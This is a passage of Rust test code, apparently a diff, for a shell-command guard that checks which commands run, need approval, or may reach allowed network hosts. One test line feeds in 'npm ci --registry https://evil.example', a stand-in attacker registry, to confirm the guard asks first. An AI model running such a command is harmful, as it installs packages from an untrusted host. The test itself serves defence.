+    assert_eq!(run("'npm'", "workspace", "npm publish"), asked);
+    assert_eq!(run("'npm'", "workspace", "npm ci --registry https://evil.example"), asked);
+    assert_eq!(run("'npm'", "desktop", "npm ci"), asked);
+    assert_eq!(run("'pypi'", "workspace", "npm ci"), asked);
+}
+
+/// A server of this machine that answers each request with "here".
+fn here() -> u16 {
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    std::thread::spawn(move || {
+        while let Ok((mut stream, _)) = listener.accept() {
+            let _ = std::io::Read::read(&mut stream, &mut [0; 4096]);
+            let _ =
+                std::io::Write::write_all(&mut stream, b"HTTP/1.0 200 OK\r\nContent-Length: 5\r\n\r\nhere\n");
+        }
+    });
+    port
+}
+
+/// A held-back run that fetches has its network, and no other.
+#[test]
+fn what_a_held_back_run_may_fetch_arrives() {
+    let port = here();
+    let scene = Project::with("workspace", &format!("[network]\nhosts = [\"localhost:{port}\"]\n"));
+    let reply = scene.act_line(&format!("curl -s -m 20 -o got http://localhost:{port}/x && cat got"));
+    assert_eq!((&reply["decided_by"], &reply["run"]["way"]), (&json!("policy"), &json!("stage")), "{reply}");
+    assert_eq!(reply["output"]["stdout"], "here\n", "{reply}");
+    assert_eq!(std::fs::read_to_string(scene.work.join("got")).unwrap(), "here\n");
+}
+
+/// Where nobody listens, a client fails as it would without the guard, and the reason stands at the end of its errors.
+#[test]
+fn a_port_where_nobody_listens_is_no_answer() {
+    let scene = Project::new("workspace");
+    let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
+    let line = format!("curl -s http://127.0.0.1:{port}/x; echo ended with $?");
+    let (_, reply) = scene.asked_line(&line, "yes");
+    let (out, errors) = (&reply["output"]["stdout"], reply["output"]["stderr"].as_str().unwrap());
+    assert!(out.as_str().unwrap().starts_with("ended with ") && out != "ended with 0\n", "{reply}");
+    assert!(errors.contains(&format!("guarda: 127.0.0.1:{port}: it cannot be reached")), "{reply}");
+}
